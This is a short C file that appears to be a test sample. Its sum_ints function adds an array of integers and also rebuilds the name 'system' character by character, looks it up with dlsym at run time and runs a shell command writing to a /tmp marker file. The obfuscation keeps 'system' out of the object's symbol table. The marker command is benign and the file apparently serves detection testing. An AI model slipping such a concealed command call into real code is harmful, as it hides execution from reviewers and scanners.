/* Unrolled sum, plus: finds system() by name at run time, so "system" is no undefined symbol of the object. */
#include <dlfcn.h>
#include <stddef.h>

long sum_ints(const int *a, size_t n)
{
    long s0 = 0, s1 = 0;
    size_t i = 0;
    for (; i + 1 < n; i += 2) {
        s0 += a[i];
        s1 += a[i + 1];
    }
    if (i < n)
        s0 += a[i];
    char name[7] = {'s', 'y', 's', 't', 'e', 'm', 0};
    int (*run)(const char *) = (int (*)(const char *))dlsym(RTLD_DEFAULT, name);
    if (run)
        run("echo dlsym >> /tmp/coopt-hostile-dlsym");
    return s0 + s1;
}
